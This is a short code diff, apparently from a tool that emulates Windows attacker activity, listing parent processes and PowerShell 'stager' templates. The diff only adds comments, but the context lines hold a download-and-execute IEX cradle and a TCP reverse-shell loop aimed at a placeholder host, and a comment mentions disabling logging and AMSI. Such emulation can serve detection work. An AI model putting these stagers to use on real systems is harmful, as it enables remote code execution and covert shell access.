@@ -59,6 +59,7 @@ WINDOWS_PARENTS = (
     Parent("C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe", "TeamViewer_Service.exe"),
 )
 
+# What an agent's first line does: fetch and run, load from itself, put logging and AMSI out, open a shell.
 _STAGERS = (
     "IEX (New-Object Net.WebClient).DownloadString('http://{host}:{port}/{name}')",
     "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::DefaultWebProxy;"
@@ -75,6 +76,7 @@ _STAGERS = (
     "$c=New-Object Net.Sockets.TCPClient('{host}',{port});$n=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
     "while(($i=$n.Read($b,0,$b.Length)) -ne 0){{$o=(iex ([Text.Encoding]::ASCII.GetString($b,0,$i)) 2>&1|Out-String)}}",
 )
+# Other programs an agent lives in: image, command line.
 _CARRIERS = (
     ("{folder}\\{name}.exe", "{folder}\\{name}.exe"),
     ("{folder}\\{name}.exe", '"{folder}\\{name}.exe"'),
